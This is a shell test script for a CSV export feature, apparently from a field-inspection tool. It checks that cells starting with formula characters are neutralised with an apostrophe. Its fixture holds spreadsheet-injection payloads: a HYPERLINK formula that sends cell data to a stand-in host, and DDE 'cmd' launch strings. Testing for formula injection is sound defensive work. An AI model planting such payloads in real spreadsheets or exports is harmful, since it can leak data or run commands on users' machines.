#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Household ids come from an imported registry. `fieldcheck export --format
# csv` must not hand a spreadsheet a formula: every cell starting with =, +,
# -, @, tab or CR is written after an apostrophe (a plain number is left a
# number). The export is read back with a CSV reader and every cell's first
# character checked.
. "$(dirname "$0")/../lib.sh"

ANS="$FC_ROOT/tests/data/answers"
PIN=258036
printf '%s\n' "$PIN" >"$T/pin"
expect_exit 0 "init" sh -c "'$FCH' init-fast I1 张三 <'$T/pin'"
# The registry, written by Python so quotes are exact. (The importer trims
# leading tabs and CRs; tests/unit/test-sheet.c covers those cells.)
python3 - "$T/h.csv" <<'PY'
import csv, sys
ids = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
       "-2+3", "@SUM(1)", "=cmd|' /C calc'!A0", "HH-plain"]
with open(sys.argv[1], "w", newline="") as f:
    w = csv.writer(f, lineterminator="\r\n")
    w.writerow(["id", "district", "address", "resident", "phone", "kind", "last_check"])
    for i, h in enumerate(ids):
        w.writerow([h, "新华区", "=1+%d" % i, "@王", "-1", "residential", ""])
with open(sys.argv[1] + ".ids", "w") as f:
    f.write("\n".join(ids) + "\n")
PY
expect_exit 0 "a registry with formula-like ids imports" "$FC" households import "$T/h.csv"
n=0
while IFS= read -r hh; do
	if "$FC" record --template gas --household "$hh" --answers "$ANS/gas-nobody-home.json" \
	    --pin-stdin <"$T/pin" >"$T/rec.out" 2>&1; then
		n=$((n + 1))
	else
		fail "a record for household '$hh'" "$(cat "$T/rec.out")"
	fi
done <"$T/h.csv.ids"
[ "$n" -eq 6 ] && pass "six records, one per household" || fail "six records" "$n"

expect_exit 0 "export --format csv" "$FC" export --format csv --out "$T/export.csv"
# check CSV: every cell's first character; prints one line per finding.
cat >"$T/check.py" <<'PY'
import csv, re, sys
num = re.compile(r"-?[0-9]+(\.[0-9]+)?\Z")
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
bad = 0
cells = 0
for r in rows:
    for c in r:
        cells += 1
        if c and c[0] in "=+-@\t\r" and not num.match(c):
            print("formula cell:", repr(c))
            bad += 1
hh = [r[6] for r in rows[1:]]
print("rows", len(rows) - 1, "cells", cells, "bad", bad)
for h in open(sys.argv[2]).read().split("\n")[:-1]:
    if h != "HH-plain" and "'" + h not in hh:
        print("missing guarded household", repr(h))
        bad += 1
if "HH-plain" not in hh:
    print("HH-plain changed")
    bad += 1
sys.exit(1 if bad else 0)
PY
expect_exit 0 "no exported cell starts with = + - @ tab or CR" python3 "$T/check.py" "$T/export.csv" "$T/h.csv.ids"
contains "all six rows and their cells were read back" "$T/out" "rows 6 cells 112 bad 0"
contains "a number stays a number (template_version written bare)" "$T/export.csv" ',gas,3,nobody_home,'
